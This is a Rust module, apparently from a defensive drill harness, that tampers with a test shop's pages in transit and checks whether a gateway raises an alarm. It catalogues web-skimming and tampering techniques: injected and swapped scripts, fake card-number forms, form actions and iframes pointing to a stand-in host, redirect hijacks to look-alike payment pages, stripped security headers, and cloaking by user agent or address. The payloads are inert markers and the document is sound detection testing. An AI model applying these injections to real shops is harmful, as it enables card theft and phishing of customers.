//! What leaves the house, changed on its way to the gate.

use crate::{
    Way,
    between::{Between, Change},
    case::Outcome,
    customer::{Answer, COMPUTER, Customer, TELEPHONE},
    house::House,
};
use anyhow::{Context, Result};
use jiff::Timestamp;
use std::time::Instant;

/// What every change bears, so that it is known where it arrives.
const MARK: &str = "dozo-drill";
/// How many customers come.
const CUSTOMERS: u8 = 40;

pub(crate) const WAYS: &[Way] = &[
    Way { name: "script-altered", plants: "other bytes in the shop's own script", rob: script_altered },
    Way {
        name: "script-hash-policy",
        plants: "another script, with its hash on the page and a policy that allows it",
        rob: script_hash_policy,
    },
    Way {
        name: "script-inline",
        plants: "an inline script on each page",
        rob: |house| swap(house, "/", "</main>", &format!("<script>/*{MARK}*/</script></main>")),
    },
    Way {
        name: "script-elsewhere",
        plants: "a script from another host",
        rob: |house| {
            swap(
                house,
                "/",
                "</head>",
                &format!("<script src=\"https://{MARK}.example/x.js\"></script></head>"),
            )
        },
    },
    Way {
        name: "handler",
        plants: "an event handler on an element",
        rob: |house| {
            swap(house, "/", "<main id=\"main\"", &format!("<main id=\"main\" onclick=\"/*{MARK}*/\""))
        },
    },
    Way {
        name: "card-form",
        plants: "a form that asks for a card, in front of the redirect to the processor",
        rob: |house| {
            swap(
                house,
                "/cart",
                "</main>",
                &format!(
                    "<form action=\"/cart/add\" method=\"post\"><label>カード番号 <input name=\"{MARK}\" inputmode=\"numeric\"></label><button>支払う</button></form></main>"
                ),
            )
        },
    },
    Way {
        name: "card-field",
        plants: "one more field in a form of the shop's own",
        rob: |house| {
            swap(house, "/cart", "</form>", &format!("<input name=\"card\" placeholder=\"{MARK}\"></form>"))
        },
    },
    Way {
        name: "card-label",
        plants: "a field of the shop's own that now asks for a card",
        rob: |house| swap(house, "/", "さがす", &format!("カード番号 {MARK}")),
    },
    Way {
        name: "form-elsewhere",
        plants: "a form of the shop's own that is sent elsewhere",
        rob: |house| swap(house, "/", "action=\"/search\"", &format!("action=\"https://{MARK}.example/\"")),
    },
    Way {
        name: "overlay",
        plants: "a layer over the whole page",
        rob: |house| {
            swap(
                house,
                "/cart",
                "</main>",
                &format!("<div style=\"position:fixed;inset:0\">{MARK}</div></main>"),
            )
        },
    },
    Way {
        name: "frame",
        plants: "a page of somebody else's in a frame",
        rob: |house| {
            swap(
                house,
                "/cart",
                "</main>",
                &format!("<iframe src=\"https://{MARK}.example/\"></iframe></main>"),
            )
        },
    },
    Way {
        name: "base",
        plants: "a base address of somebody else's",
        rob: |house| {
            swap(
                house,
                "/",
                "<meta charset=\"utf-8\">",
                &format!("<meta charset=\"utf-8\"><base href=\"https://{MARK}.example/\">"),
            )
        },
    },
    Way {
        name: "refresh",
        plants: "a page that leads elsewhere by itself",
        rob: |house| {
            swap(
                house,
                "/cart",
                "<meta charset=\"utf-8\">",
                &format!(
                    "<meta charset=\"utf-8\"><meta http-equiv=\"refresh\" content=\"0;url=https://{MARK}.example/\">"
                ),
            )
        },
    },
    Way {
        name: "redirect-elsewhere",
        plants: "a redirect to a page that looks like the processor's",
        rob: |house| redirect(house, &format!("http://{MARK}.example")),
    },
    Way {
        name: "redirect-foreign",
        plants: "a redirect to a payment page of somebody else's, at the same processor",
        rob: foreign_page,
    },
    Way {
        name: "headers-stripped",
        plants: "security headers taken off and weakened",
        rob: headers_stripped,
    },
    Way {
        name: "cloak-agent",
        plants: "a fake form for telephones alone",
        rob: |house| cloaked(house, |head| head.contains("iPhone"), 1),
    },
    Way { name: "cloak-address", plants: "a fake form for one address alone", rob: cloak_address },
    Way {
        name: "cloak-twentieth",
        plants: "a fake form for one visitor in twenty",
        rob: |house| cloaked(house, |_| true, 20),
    },
    Way {
        name: "form-hook",
        plants: "a hook in web that copies all that is sent to it, while a customer buys with a card",
        rob: form_hook,
    },
];

/// What is swapped for what, for everybody.
fn everybody(swaps: &[(&str, &str)]) -> Change {
    let swaps = swaps.iter().map(|(from, to)| ((*from).to_owned(), (*to).to_owned())).collect();
    Change { whom: |_| true, one_in: 1, swaps }
}

/// Customers come one after the other while the change is there; what they were sent, and what the gate said.
fn robbed(
    house: &House,
    between: &Between<'_>,
    change: Change,
    mut visit: impl FnMut(u8, &mut Customer) -> Result<Vec<Answer>>,
) -> Result<Outcome> {
    let (since, planted) = (Timestamp::now(), Instant::now());
    between.change(Some(change));
    let (mut sent, mut caught) = (0, None);
    for n in 1..=CUSTOMERS {
        let mut customer = Customer::new(n, if n % 2 == 0 { TELEPHONE } else { COMPUTER });
        for answer in visit(n, &mut customer)? {
            sent += u32::from(answer.body.contains(MARK) || answer.head.contains(MARK));
        }
        caught =
            caught.or_else(|| house.alarm_since(since).map(|why| Outcome::refused("gate", &why, planted)));
        // One in so many is held back each time it comes, not the first time only.
        if caught.is_some() && n >= CUSTOMERS / 2 {
            break;
        }
    }
    let changed = between.changed();
    between.change(None);
    let outcome = match caught {
        Some(caught) => caught,
        None if changed == 0 => Outcome::untried("there was nothing on the page to put it in the place of"),
        None => Outcome::missed("no alarm"),
    };
    Ok(Outcome { pages_sent: sent, ..outcome })
}

fn swap(house: &House, path: &str, from: &str, to: &str) -> Result<Outcome> {
    let between = Between::lie_down(house)?;
    let url = format!("{}{path}", house.shop());
    robbed(house, &between, everybody(&[(from, to)]), |_, customer| Ok(vec![customer.get(&url)?]))
}

/// The address of the shop's script, and what its page says of it.
fn script(house: &House) -> Result<(String, String)> {
    let home = Customer::new(1, COMPUTER).get(house.shop())?;
    let of = |name| home.first("<script ", name).context("there is no script on the home page");
    // The element is cut at its first space: the attribute may be the first.
    let src = of("src").or_else(|_| {
        home.body
            .split("<script src=\"")
            .nth(1)
            .and_then(|r| r.split('"').next())
            .map(str::to_owned)
            .context("no script")
    })?;
    Ok((src, of("integrity")?))
}

fn script_altered(house: &House) -> Result<Outcome> {
    let (src, _) = script(house)?;
    let url = format!("{}{src}", house.shop());
    let first = Customer::new(1, COMPUTER).get(&url)?.body.chars().take(24).collect::<String>();
    let between = Between::lie_down(house)?;
    let altered = format!("/*{MARK}*/{first}");
    robbed(house, &between, everybody(&[(&first, &altered)]), |_, customer| Ok(vec![customer.get(&url)?]))
}

fn script_hash_policy(house: &House) -> Result<Outcome> {
    let (src, integrity) = script(house)?;
    let url = format!("{}{src}", house.shop());
    let first = Customer::new(1, COMPUTER).get(&url)?.body.chars().take(24).collect::<String>();
    let between = Between::lie_down(house)?;
    let altered = format!("/*{MARK}*/{first}");
    let swaps = [
        (integrity.as_str(), "sha384-dozo-drill-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"),
        (first.as_str(), altered.as_str()),
        ("content-type: text/html", "content-security-policy: script-src *\r\ncontent-type: text/html"),
    ];
    let home = house.shop().to_owned();
    robbed(house, &between, everybody(&swaps), |_, customer| {
        Ok(vec![customer.get(&home)?, customer.get(&url)?])
    })
}

fn redirect(house: &House, to: &str) -> Result<Outcome> {
    let between = Between::lie_down(house)?;
    let change = everybody(&[(&format!("location: {}", house.pay()), &format!("location: {to}"))]);
    one_order(house, &between, change)
}

fn foreign_page(house: &House) -> Result<Outcome> {
    let between = Between::lie_down(house)?;
    let change = everybody(&[(
        &format!("location: {}/c/", house.pay()),
        &format!("location: {}/c/cs_test_{MARK}", house.pay()),
    )]);
    one_order(house, &between, change)
}

/// A customer orders, and is led away.
fn one_order(house: &House, between: &Between<'_>, change: Change) -> Result<Outcome> {
    let shop = house.shop().to_owned();
    let mut customer = Customer::new(3, COMPUTER);
    let form = customer.confirm_order(&shop, "訓練 太郎")?;
    let (since, planted) = (Timestamp::now(), Instant::now());
    between.change(Some(change));
    let answer = customer.post(&format!("{shop}/checkout/place"), &form)?;
    let changed = between.changed();
    between.change(None);
    let sent = u32::from(answer.header("location").is_some_and(|to| to.contains(MARK)));
    let outcome = match house.alarm_since(since) {
        Some(why) => Outcome::refused("gate", &why, planted),
        None if changed == 0 => Outcome::untried("the shop did not lead to the processor"),
        None => Outcome::missed("no alarm"),
    };
    Ok(Outcome { pages_sent: sent, ..outcome })
}

fn headers_stripped(house: &House) -> Result<Outcome> {
    let between = Between::lie_down(house)?;
    let weak = "content-security-policy: default-src * 'unsafe-inline'\r\nx-powered-by: dozo-drill\r\ncontent-type: text/html";
    between.change(Some(everybody(&[("content-type: text/html", weak)])));
    let mut sent = 0;
    for n in 1..=CUSTOMERS {
        let answer = Customer::new(n, COMPUTER).get(house.shop())?;
        let strong = answer
            .header("content-security-policy")
            .is_some_and(|policy| policy.starts_with("default-src 'none'"));
        sent += u32::from(!strong || answer.head.contains(MARK));
    }
    let changed = between.changed();
    between.change(None);
    let outcome = match (sent, changed) {
        (_, 0) => Outcome::untried("no page came through"),
        (0, _) => Outcome::contained("gate", "sets every security header itself"),
        _ => Outcome::missed("a page bore other headers"),
    };
    Ok(Outcome { pages_sent: sent, ..outcome })
}

fn cloaked(house: &House, whom: fn(&str) -> bool, one_in: u32) -> Result<Outcome> {
    let between = Between::lie_down(house)?;
    let form = format!("<form action=\"/search\"><input name=\"{MARK}\"></form></main>");
    let change = Change { whom, one_in, swaps: vec![("</main>".into(), form)] };
    // On a page that is made anew for each: an address that nobody asked for before.
    let (shop, begun) = (house.shop().to_owned(), Timestamp::now().as_millisecond());
    robbed(house, &between, change, |n, customer| {
        Ok(vec![customer.get(&format!("{shop}/search?q={begun}-{n}"))?])
    })
}

/// Whoever robs one address alone must learn it first.
fn cloak_address(house: &House) -> Result<Outcome> {
    let between = Between::lie_down(house)?;
    Customer::new(7, COMPUTER).get(&format!("{}/cart", house.shop()))?;
    let told = between.heard(b"127.66.6.7");
    drop(between);
    match told {
        false => Ok(Outcome::contained("gate", "tells web no visitor's address")),
        true => cloaked(house, |head| head.contains("127.66.6.7"), 1),
    }
}

/// The number of a test card. It is typed at the processor and must be nowhere else.
const CARD: &str = "4242424242424242";

fn form_hook(house: &House) -> Result<Outcome> {
    let between = Between::lie_down(house)?;
    let name = "訓練 花子";
    let mut customer = Customer::new(5, COMPUTER);
    let form = customer.confirm_order(house.shop(), name)?;
    let placed = customer.post(&format!("{}/checkout/place", house.shop()), &form)?;
    let hosted = placed.header("location").context("the shop did not lead to the processor")?.to_owned();
    let page = customer.get(&hosted)?;
    let action = page
        .first("<form ", "action")
        .or_else(|| {
            page.body.split("<form action=\"").nth(1).and_then(|r| r.split('"').next()).map(str::to_owned)
        })
        .context("no form at the processor")?;
    let typed =
        [("number", CARD), ("expiry", "12/34"), ("cvc", "123")].map(|(n, v)| (n.to_owned(), v.to_owned()));
    let paid = customer.post(&format!("{}{action}", house.pay()), &typed)?;
    let back = paid.header("location").context("the card was not taken")?.to_owned();
    customer.get(&back)?;
    let coded: String =
        name.bytes().map(|b| if b == b' ' { "%20".into() } else { format!("%{b:02X}") }).collect();
    let outcome = match between.heard(coded.as_bytes()) {
        true => Outcome::contained(
            "the processor's own page",
            "the hook heard what was typed about the person, and no card",
        ),
        false => Outcome::untried("the hook heard nothing"),
    };
    let leaked = [CARD, "4242 4242 4242 4242", "4242+4242"].iter().any(|card| between.heard(card.as_bytes()));
    Ok(Outcome { cards_leaked: u32::from(leaked), ..outcome })
}
